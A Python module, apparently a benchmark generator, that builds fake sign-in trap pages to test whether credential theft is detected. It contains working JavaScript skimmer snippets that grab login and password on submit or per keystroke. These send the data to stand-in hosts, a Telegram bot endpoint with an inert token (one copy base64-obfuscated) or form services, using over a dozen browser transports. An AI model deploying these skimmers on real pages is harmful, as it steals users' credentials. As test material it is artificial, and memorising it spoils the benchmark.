"""Traps by the way on which they hand over what was typed."""

from collections.abc import Iterator

from bench.pages.sites.development.template import BODY, DROP, TRAP, page
from bench.pages.sites.site import Kind, Site, one, script, site

_TAKEN = "document.forms[0].onsubmit=function(e){e.preventDefault();var v=JSON.stringify({l:login.value,p:secret.value});%s};"
_NAMED = (
    "document.title=atob('UHJvdmlkZXIgQSBzaWduLWlu');document.querySelector('h1').textContent=document.title;"
)
_SOCKET = "wss://collect.example.net/s"
WAYS = {
    "fetch": f"fetch('{DROP}/p',{{method:'POST',body:v}})",
    "XHR": f"var x=new XMLHttpRequest();x.open('POST','{DROP}/p');x.send(v)",
    "beacon": f"navigator.sendBeacon('{DROP}/p',v)",
    "image": f"new Image().src='{DROP}/i.gif?q='+encodeURIComponent(btoa(v))",
    "WebSocket": f"var w=new WebSocket('{_SOCKET}');w.onopen=function(){{w.send(v)}}",
    "WebSocket of a worker": "new Worker('w.js').postMessage(v)",
    "SharedWorker": "new SharedWorker('w.js').port.postMessage(v)",
    "service worker": "navigator.serviceWorker.register('sw.js').then(function(){return navigator.serviceWorker.ready})"
    ".then(function(r){r.active.postMessage(v)})",
    "EventSource": f"new EventSource('{DROP}/e?q='+encodeURIComponent(v))",
    "script": f"var s=document.createElement('script');s.src='{DROP}/j.js?q='+encodeURIComponent(v);document.body.appendChild(s)",
    "navigation": f"location.href='{DROP}/next?q='+encodeURIComponent(v)",
}
_WORKER = script(
    f"function send(v){{var w=new WebSocket('{_SOCKET}');w.onopen=function(){{w.send(v)}};"
    f"fetch('{DROP}/w',{{method:'POST',body:v}})}}"
    "onmessage=function(e){send(e.data)};onconnect=function(e){e.ports[0].onmessage=function(m){send(m.data)}}"
)
_BOT = "https://api.telegram.org/bot000:inert/sendMessage"


def sites() -> Iterator[Site]:
    """Every way under a provider's name, and those under none that give themselves away."""
    for way, code in WAYS.items():
        yield _trap(f"{way}, a provider's name", _NAMED + _TAKEN % code)
    yield _trap("form to a stranger, a provider's name", _NAMED + f"document.forms[0].action='{DROP}/p.php'")
    yield _trap(
        "each key at once, a provider's name",
        _NAMED + f"secret.oninput=function(){{navigator.sendBeacon('{DROP}/k',this.value)}}",
    )
    for way in ("image", "WebSocket", "EventSource", "script"):
        yield _trap(f"{way}, no name", _TAKEN % WAYS[way])
    yield _trap("bot", _TAKEN % f"fetch('{_BOT}',{{method:'POST',body:v}})")
    yield _trap(
        "bot, address unpacked",
        _TAKEN
        % (
            "fetch(atob('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDAwMDppbmVydC9zZW5kTWVzc2FnZQ==')"
            "+'?text='+encodeURIComponent(v))"
        ),
    )
    yield _trap("form service", _TAKEN % "fetch('https://formspree.io/f/inert',{method:'POST',body:v})")
    yield _trap("form service, by form", "document.forms[0].action='https://formsubmit.co/inert'")
    for way in ("fetch", "XHR", "beacon", "navigation"):
        yield _trap(f"{way}, no name", _TAKEN % WAYS[way], "quiet trap")
    yield _trap("to itself, no name", "", "quiet trap")


def _trap(variant: str, code: str, kind: Kind = "trap") -> Site:
    return site(
        "sends",
        variant,
        kind,
        one(f"{TRAP}/", page("Sign in", BODY, code), **{"w.js": _WORKER, "sw.js": _WORKER}),
    )
